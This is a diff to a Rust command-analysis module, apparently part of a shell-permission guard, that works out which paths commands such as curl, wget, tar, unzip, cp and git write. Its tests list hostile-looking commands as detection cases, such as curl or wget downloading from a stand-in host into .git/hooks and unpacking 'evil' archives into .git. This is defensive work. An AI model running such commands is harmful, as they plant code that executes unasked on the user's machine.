@@ -1208,23 +1208,29 @@ const WRITERS: &[(&str, &[&str])] = &[
 /// The paths an argv acts on: files written by known writers (and the sources they read) and
 /// folders (`git -C`). Other arguments that may name files are [`mentions`].
 pub(crate) fn paths(argv: &[Word]) -> Vec<(String, Access, PathRole)> {
-    let mut paths = Vec::new();
     let Some(program) = value(argv, 0).map(basename) else {
-        return paths;
+        return Vec::new();
     };
+    let args: Vec<&str> = argv.iter().skip(1).filter_map(Word::value).collect();
+    let mut paths: Vec<(String, Access, PathRole)> = written_elsewhere(program, &args)
+        .into_iter()
+        .map(|path| (path, Access::Write, PathRole::Written))
+        .collect();
     if !(WRITERS.iter().any(|(name, _)| *name == program)
         || matches!(program, "sed" | "gsed" | "git"))
     {
         return paths;
     }
-    let args: Vec<&str> = argv.iter().skip(1).filter_map(Word::value).collect();
     if let Some((_, with_value)) = WRITERS.iter().find(|(name, _)| *name == program) {
         let operands = operands(&args, with_value);
         let n = operands.len();
+        // `chmod --reference=FILE` takes its mode from a file, not from an operand.
+        let mode_operand = matches!(program, "chmod" | "chown" | "chgrp")
+            && !args.iter().any(|a| long_prefix_of(a, "reference", 3));
         for (i, operand) in operands.iter().enumerate() {
             let written = match program {
                 // The first operand of chmod/chown/chgrp is the mode or owner.
-                "chmod" | "chown" | "chgrp" => i > 0,
+                "chmod" | "chown" | "chgrp" => i > 0 || !mode_operand,
                 // Sources of a copy or link are read; the last operand is written.
                 "cp" | "install" | "ln" => i + 1 == n,
                 "dd" => operand.starts_with("of="),
@@ -1236,16 +1242,8 @@ pub(crate) fn paths(argv: &[Word]) -> Vec<(String, Access, PathRole)> {
                 .unwrap_or(operand);
             if written {
                 paths.push((text.to_owned(), Access::Write, PathRole::Written));
-            } else if !(matches!(program, "chmod" | "chown" | "chgrp") && i == 0) {
+            } else if !(mode_operand && i == 0) {
                 paths.push((text.to_owned(), Access::Read, PathRole::Mentioned));
-            }
-        }
-        // `-t DIR` is the target folder.
-        for pair in args.windows(2) {
-            if let [flag, dir] = pair
-                && *flag == "-t"
-            {
-                paths.push(((*dir).to_owned(), Access::Write, PathRole::Written));
             }
         }
         return paths;
@@ -1275,6 +1273,275 @@ pub(crate) fn paths(argv: &[Word]) -> Vec<(String, Access, PathRole)> {
         }
     }
     paths
+}
+
+/// Options of programs whose value is a path they write: (programs, every short option of
+/// theirs that takes a value, the short ones among them that name a written path, the long
+/// ones that do).
+const WRITTEN_BY_OPTION: &[(&[&str], &str, &str, &[&str])] = &[
+    (
+        &["cp", "mv", "install", "ln"],
+        "StmogZ",
+        "t",
+        &["target-directory"],
+    ),
+    (&["unzip"], "dxX", "d", &[]),
+    (
+        &["curl"],
+        "dDeEHuXAbcoCKrTwyYzQmPtUxF",
+        "oDc",
+        &[
+            "output",
+            "output-dir",
+            "dump-header",
+            "cookie-jar",
+            "trace",
+            "trace-ascii",
+            "stderr",
+            "etag-save",
+            "hsts",
+            "alt-svc",
+            "libcurl",
+        ],
+    ),
+    (
+        &["wget"],
+        "OPoaeiUTtlwAQRDIXB",
+        "OPoa",
+        &[
+            "output-document",
+            "directory-prefix",
+            "output-file",
+            "append-output",
+            "save-cookies",
+            "warc-file",
+        ],
+    ),
+    (
+        &["patch"],
+        "oidrpDBFzVYgz",
+        "odr",
+        &["output", "directory", "reject-file"],
+    ),
+    (&["sort"], "oSTkt", "o", &["output"]),
+    (&["csplit"], "fbn", "f", &["prefix"]),
+];
+
+/// tar's short options that take a value.
+const TAR_WITH_VALUE: &str = "fCTXgbHKLNV";
+
+/// The values of a program's options among `short` and `long`, reading its options with the
+/// short ones in `valued` taking a value (attached or the next argument, `-oFILE`, `-o FILE`)
+/// and long ones written whole or abbreviated (`--output=FILE`, `--outp FILE`).
+fn option_values<'a>(
+    args: &[&'a str],
+    valued: &str,
+    short: &str,
+    long: &[&str],
+) -> Vec<(char, &'a str)> {
+    let mut out = Vec::new();
+    let mut rest = args.iter();
+    while let Some(&a) = rest.next() {
+        if a == "--" {
+            break;
+        }
+        if let Some(name) = a.strip_prefix("--") {
+            let (name, attached) = match name.split_once('=') {
+                Some((n, v)) => (n, Some(v)),
+                None => (name, None),
+            };
+            if let Some(full) = long
+                .iter()
+                .find(|l| !name.is_empty() && l.starts_with(name))
+            {
+                let letter = full.chars().next().unwrap_or('-');
+                match attached {
+                    Some(v) => out.push((letter, v)),
+                    None => {
+                        if let Some(&v) = rest.next() {
+                            out.push((letter, v));
+                        }
+                    }
+                }
+            }
+            continue;
+        }
+        let Some(cluster) = a.strip_prefix('-').filter(|c| !c.is_empty()) else {
+            continue;
+        };
+        for (i, letter) in cluster.char_indices() {
+            if !valued.contains(letter) {
+                continue;
+            }
+            let attached = cluster.get(i + letter.len_utf8()..).unwrap_or_default();
+            let value = if attached.is_empty() {
+                rest.next().copied()
+            } else {
+                Some(attached)
+            };
+            if let Some(v) = value.filter(|_| short.contains(letter)) {
+                out.push((letter, v));
+            }
+            break;
+        }
+    }
+    out
+}
+
+/// Paths a program writes that are not among its operands, or are there under another name:
+/// a folder given by option (`cp -t DIR`, `tar -x -C DIR`, `unzip -d DIR`, `7z x -oDIR`), an
+/// output file (`curl -o`, `wget -O`, `sort -o`, `patch -o`), what a copy or move creates in the
+/// folder it names (`mv hooks .git` writes `.git/hooks`), the folder an archive is unpacked
+/// into (`.` without `-C`), `rsync`'s and `git clone`'s destination, `split`'s prefix.
+fn written_elsewhere(program: &str, args: &[&str]) -> Vec<String> {
+    let mut out: Vec<String> = Vec::new();
+    // tar's first argument may be its letters without a dash (`tar xzf a.tgz -C dir`), each
+    // that takes a value taking the next argument in turn.
+    let mut expanded: Vec<&str> = Vec::new();
+    let args = match (program, args.split_first()) {
+        ("tar" | "gtar" | "bsdtar", Some((first, rest)))
+            if !first.starts_with('-') && first.chars().all(|c| c.is_ascii_alphabetic()) =>
+        {
+            let mut values = rest.iter();
+            for letter in first.chars() {
+                expanded.push(match letter {
+                    'x' => "-x",
+                    'c' => "-c",
+                    'f' => "-f",
+                    'C' => "-C",
+                    _ => "-v",
+                });
+                if TAR_WITH_VALUE.contains(letter)
+                    && let Some(v) = values.next()
+                {
+                    expanded.push(v);
+                }
+            }
+            expanded.extend(values);
+            expanded.as_slice()
+        }
+        _ => args,
+    };
+    if let Some((_, valued, short, long)) = WRITTEN_BY_OPTION
+        .iter()
+        .find(|(names, ..)| names.contains(&program))
+    {
+        out.extend(
+            option_values(args, valued, short, long)
+                .into_iter()
+                .map(|(_, v)| v.to_owned()),
+        );
+    }
+    let operands = Options::read(program, args).operands;
+    match program {
+        "cp" | "mv" | "install" | "ln" => {
+            // What lands in the destination folder: `DIR/NAME` for each source.
+            let with_value = WRITERS
+                .iter()
+                .find(|(name, _)| *name == program)
+                .map_or(&[][..], |(_, v)| *v);
+            let operands = self::operands(args, with_value);
+            let target = option_values(args, "StmogZ", "t", &["target-directory"]);
+            let (folder, sources) = match target.first() {
+                Some((_, dir)) => (Some(*dir), operands.as_slice()),
+                None => match operands.split_last() {
+                    Some((last, sources)) if !sources.is_empty() => (Some(*last), sources),
+                    _ => (None, operands.as_slice()),
+                },
+            };
+            if let Some(folder) = folder {
+                for source in sources {
+                    let name = basename(source.trim_end_matches('/'));
+                    if !name.is_empty() && name != "." && name != ".." {
+                        out.push(format!("{}/{name}", folder.trim_end_matches('/')));
+                    }
+                }
+            }
+        }
+        "tar" | "gtar" | "bsdtar" => {
+            let o = Options::read(program, args);
+            let values = option_values(args, TAR_WITH_VALUE, "fC", &["directory", "file"]);
+            if o.flag("x") || o.long(&["--extract", "--get"]) {
+                // Unpacked into the last `-C` folder, or the one it runs in.
+                match values.iter().rev().find(|(l, _)| matches!(l, 'C' | 'd')) {
+                    Some((_, dir)) => out.push((*dir).to_owned()),
+                    None => out.push(".".to_owned()),
+                }
+            } else if o.flag("cruA")
+                || o.long(&[
+                    "--create",
+                    "--append",
+                    "--update",
+                    "--catenate",
+                    "--concatenate",
+                ])
+            {
+                out.extend(
+                    values
+                        .iter()
+                        .filter(|(l, v)| *l == 'f' && *v != "-")
+                        .map(|(_, v)| (*v).to_owned()),
+                );
+            }
+        }
+        "unzip" => {
+            // `-l`, `-t`, `-v`, `-Z`, `-p`, `-z` list, test or print; up to the letter whose
+            // value follows (`-d.git` names a folder).
+            let listing = args.iter().any(|a| {
+                a.strip_prefix('-')
+                    .filter(|c| !c.starts_with('-'))
+                    .is_some_and(|c| {
+                        c.chars()
+                            .take_while(|l| !"dxX".contains(*l))
+                            .any(|l| "ltvZpz".contains(l))
+                    })
+            });
+            if listing {
+                out.clear();
+            } else if out.is_empty() {
+                out.push(".".to_owned());
+            }
+        }
+        "7z" | "7za" | "7zr" | "7zz" => match operands.first().copied() {
+            Some("x" | "e") => match args.iter().find_map(|a| a.strip_prefix("-o")) {
+                Some(dir) => out.push(dir.to_owned()),
+                None => out.push(".".to_owned()),
+            },
+            Some("a" | "u" | "d" | "rn") => out.extend(operands.get(1).map(|a| (*a).to_owned())),
+            _ => {}
+        },
+        "rsync" => {
+            if let Some((last, sources)) = operands.split_last()
+                && !sources.is_empty()
+                && !last.contains(':')
+            {
+                out.push((*last).to_owned());
+            }
+        }
+        "split" => out.extend(operands.get(1).map(|a| (*a).to_owned())),
+        "git" => {
+            let i = git_subcommand_at(args);
+            if args.get(i) == Some(&"clone") {
+                let rest = args.get(i + 1..).unwrap_or_default();
+                let o = Options::read("git", rest);
+                match o.operands.as_slice() {
+                    [_, dir, ..] => out.push((*dir).to_owned()),
+                    [source] => {
+                        let name = basename(source.trim_end_matches('/'));
+                        let name = name.strip_suffix(".git").unwrap_or(name);
+                        if !name.is_empty() {
+                            out.push(name.to_owned());
+                        }
+                    }
+                    [] => {}
+                }
+            }
+        }
+        // The file to patch, when named (`patch FILE < change.diff`).
+        "patch" => out.extend(operands.first().map(|a| (*a).to_owned())),
+        _ => {}
+    }
+    out
 }
 
 /// Arguments that may name files or URLs, for deny and ask rules (`cat .env`, `curl URL`):
@@ -1484,7 +1751,7 @@ pub(crate) fn recursive(argv: &[Word]) -> bool {
         "tar" | "gtar" | "bsdtar" => {
             !o.long.iter().any(|a| long_prefix_of(a, "no-recursion", 6)) || o.long(&["--recursion"])
         }
-        "7z" | "7za" | "7zr" | "7zz" => true,
+        "7z" | "7za" | "7zr" | "7zz" | "unzip" => true,
         "git" => git_goes_into_folders(&args),
         "zip" => o.flag("rR") || o.long(&["--recurse-paths", "--recurse-patterns"]),
         "cp" | "scp" => o.flag("rRa") || o.long(&["--recursive", "--archive"]),
@@ -1585,6 +1852,7 @@ const SHORT_WITH_VALUE: &[(&[&str], &str)] = &[
     (&["awk", "gawk", "mawk", "nawk"], "fvF"),
     (&["tar", "gtar", "bsdtar"], "fCTXg"),
     (&["git"], "CcOo"),
+    (&["split"], "abClnt"),
 ];
 
 /// The value attached to a short option (`-fFILE`, or `-rfFILE` when `r` takes none): for
@@ -1760,6 +2028,86 @@ mod tests {
         ] {
             assert!(!recursive(no), "{no}");
         }
+    }
+
+    #[test]
+    fn paths_written_by_option_or_inside_a_named_folder() {
+        let written = |line: &str| -> Vec<String> {
+            let argv: Vec<Word> = line.split_whitespace().map(Word::literal).collect();
+            paths(&argv)
+                .into_iter()
+                .filter(|(_, access, _)| *access == Access::Write)
+                .map(|(p, ..)| p)
+                .collect()
+        };
+        let has = |line: &str, path: &str| {
+            let w = written(line);
+            assert!(w.iter().any(|p| p == path), "{line}: {w:?}");
+        };
+        has("tar xf a.tar -C .toolgate", ".toolgate");
+        has("tar -xzf a.tgz --directory=.git/hooks", ".git/hooks");
+        has("tar -x -f a.tar --dir .git", ".git");
+        has("tar xCf .git a.tar", ".git");
+        has("tar xf a.tar", ".");
+        has("tar czf .git/hooks/x.tgz src", ".git/hooks/x.tgz");
+        has("tar -c -f.git/x.tar src", ".git/x.tar");
+        has("rsync -a evil/ .git/", ".git/");
+        has("unzip -d .git/hooks evil.zip", ".git/hooks");
+        has("unzip -o -d.git evil.zip", ".git");
+        has("unzip evil.zip", ".");
+        has("cp --target-directory=.git/hooks pre-commit", ".git/hooks");
+        has("cp -t.git/hooks pre-commit", ".git/hooks/pre-commit");
+        has("install -t .git/hooks pre-commit", ".git/hooks/pre-commit");
+        has("mv --target-dir .git hooks", ".git/hooks");
+        has("mv .git old", ".git");
+        has("mv evil .git", ".git");
+        has("mv hooks/ .git", ".git/hooks");
+        has("ln -s ../../x .git/hooks", ".git/hooks/x");
+        has("git clone evil .git", ".git");
+        has("git -C . clone https://x.example/repo.git", "repo");
+        has("chmod -R --reference=x .git", ".git");
+        has("chown --ref=x .toolgate", ".toolgate");
+        has("7z x -o.git evil.7z", ".git");
+        has("7z x evil.7z", ".");
+        has("7z a .git/x.7z src", ".git/x.7z");
+        has(
+            "curl -o .git/hooks/pre-commit https://x.example",
+            ".git/hooks/pre-commit",
+        );
+        has(
+            "curl -sSLo.git/hooks/pre-commit https://x.example",
+            ".git/hooks/pre-commit",
+        );
+        has(
+            "curl --output-dir .git/hooks -O https://x.example/pre-commit",
+            ".git/hooks",
+        );
+        has(
+            "wget -O .git/hooks/pre-push https://x.example",
+            ".git/hooks/pre-push",
+        );
+        has(
+            "wget -P .git/hooks https://x.example/pre-push",
+            ".git/hooks",
+        );
+        has(
+            "wget --directory-prefix=.git/hooks https://x.example/pre-push",
+            ".git/hooks",
+        );
+        has("patch .git/hooks/pre-commit", ".git/hooks/pre-commit");
+        has("patch -p1 -d .git/hooks", ".git/hooks");
+        has("patch -o .git/config a.diff", ".git/config");
+        has("split -b 1k evil .git/hooks/pre-", ".git/hooks/pre-");
+        has("sort -o .git/config in", ".git/config");
+        assert!(written("chmod 600 key").iter().all(|p| p != "600"));
+        assert_eq!(written("tar tf a.tar"), Vec::<String>::new());
+        assert_eq!(written("unzip -l a.zip"), Vec::<String>::new());
+        assert_eq!(
+            written("curl -H x -sS https://x.example"),
+            Vec::<String>::new()
+        );
+        assert_eq!(written("rsync -a src host:dst"), Vec::<String>::new());
+        assert_eq!(written("tar -C src -czf - ."), Vec::<String>::new());
     }
 
     #[test]
